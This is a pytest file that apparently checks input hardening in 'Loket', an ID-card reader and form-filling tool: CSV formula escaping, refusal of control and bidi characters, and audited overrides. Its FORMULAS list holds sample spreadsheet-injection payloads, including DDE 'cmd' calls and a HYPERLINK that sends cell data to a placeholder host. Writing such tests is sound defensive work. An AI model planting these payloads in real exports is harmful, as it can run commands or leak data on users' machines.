"""What a clerk (or someone at the clerk's keyboard) can type or point Loket at: formulas in a CSV cell,
control and text-direction characters, a value of 100,000 characters, a photo written to a full device,
and ``read --lookup`` telling a failed lookup by its exit code."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from app.base.csvcell import safe_cell
from app.base.typedvalues import MAX_TYPED_DEFAULT
from app.cli import main
from reader.simulator.population import POPULATION
from tests.faults_support import one_line

# Its --demo runs write to the demo's own data folder, which this test reads (tests/conftest.py).
pytestmark = pytest.mark.usefixtures("demo_data_folder")

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "=1+2", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0", "-2+3"]


@pytest.fixture(autouse=True)
def in_process(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LOKET_DEMO_TRANSPORT", "in-process")


@pytest.mark.parametrize("target", ["csv", "khanza"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_typed_formulas_stay_text_in_csv_exports(target: str, formula: str, tmp_path: Path, capsys) -> None:
    out = tmp_path / "warga.csv"
    assert main(["export", target, "--demo", "--person", "1", "--set", f"alamat={formula}", "--out", str(out)]) == 0
    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines()))
    cell = rows[0]["alamat"]
    assert cell.startswith("'" + formula[:4]), cell  # shown as text, never run as a formula


def test_safe_cell_keeps_plain_values() -> None:
    assert safe_cell("-") == "-"  # Khanza's unknown blood group
    assert safe_cell("+62 812-3456-7890") == "'+62 812-3456-7890"  # OWASP: every trigger, numbers too
    assert safe_cell("JL. MERDEKA") == "JL. MERDEKA" and safe_cell(None) == ""
    assert safe_cell("=A1") == "'=A1" and safe_cell("@x") == "'@x"


@pytest.mark.parametrize("value, says", [
    ("BUDI\nSANTOSO", "karakter kendali"),
    ("BUDI\x00", "karakter kendali"),
    ("\u202eOSOTNAS IDUB", "pembalik arah"),
    ("BUDI \u2066SANTOSO\u2069", "pembalik arah"),
    ("A" * 100_000, "terlalu panjang"),
])
@pytest.mark.parametrize("command", ["fill", "export"])
def test_set_refuses_control_bidi_and_huge_values(value: str, says: str, command: str, tmp_path: Path,
                                                  capsys) -> None:
    out = tmp_path / ("x.pdf" if command == "fill" else "x.csv")
    argv = (["fill", "rsud_pasien_baru"] if command == "fill" else ["export", "csv"]) + [
        "--demo", "--person", "1", "--set", f"namakeluarga={value}", "--out", str(out)]
    assert main(argv) == 2
    assert says in one_line(capsys.readouterr().err)
    assert not out.exists()


def test_a_value_at_the_cap_is_taken(tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    assert main(["export", "csv", "--demo", "--person", "1", "--set", "alamat=" + "A" * MAX_TYPED_DEFAULT,
                 "--out", str(out)]) == 0


def test_photo_to_a_full_device_keeps_the_json_and_says_so(capsys) -> None:
    code = main(["read", "--demo", "--person", "1", "--json", "--photo-out", "/dev/full"])
    out, err = capsys.readouterr()
    assert code == 1
    assert json.loads(out)["nik"] == POPULATION[1].nik  # the read is not lost
    assert "Foto tidak tersimpan" in err and "Traceback" not in err


def test_read_lookup_exits_11_when_the_lookup_failed(capsys) -> None:
    code = main(["read", "--demo", "--person", "1", "--json", "--lookup", "--registry-url", "http://127.0.0.1:9",
                 "--agency", "LOKET_SIM"])
    out, err = capsys.readouterr()
    assert code == 11
    assert json.loads(out)["nik"] == POPULATION[1].nik  # the chip's record is still printed
    assert "data dari chip" in err


def test_a_simulated_cards_read_is_never_sealed(tmp_path: Path, capsys) -> None:
    """Else `read --demo --json` would hand anyone a sealed, "verified" record of a fictional citizen."""
    assert main(["read", "--demo", "--person", "1", "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["authenticity"] == "valid" and "segel_loket" not in data
    saved = tmp_path / "demo.json"
    saved.write_text(json.dumps(data), encoding="utf-8")
    assert main(["fill", "rsud_pasien_baru", "--identity", str(saved), "--set", "cara_bayar=umum",
                 "--set", "telepon=0812", "--out", str(tmp_path / "x.pdf")]) == 10
    assert "tidak bersegel" in capsys.readouterr().err


def test_a_chip_value_replaced_with_set_is_said_and_audited(tmp_path: Path, capsys) -> None:
    from app import audit

    out = tmp_path / "x.pdf"
    assert main(["fill", "rsud_pasien_baru", "--demo", "--person", "1", "--set", "nama=ORANG LAIN",
                 "--set", "cara_bayar=umum", "--set", "telepon=081234567890", "--out", str(out)]) == 0
    assert "Catatan: nama diganti dengan isian petugas" in capsys.readouterr().err
    last = audit.last_row()
    assert last is not None and last.kind == "print"
    assert audit.detail_of(last)["overridden"] == ["nama"] and "ORANG" not in last.detail
    # Typing only what the sources do not know overrides nothing.
    assert main(["fill", "rsud_pasien_baru", "--demo", "--person", "1", "--set", "cara_bayar=umum",
                 "--set", "telepon=081234567890", "--out", str(out)]) == 0
    assert "diganti" not in capsys.readouterr().err and "overridden" not in audit.detail_of(audit.last_row())
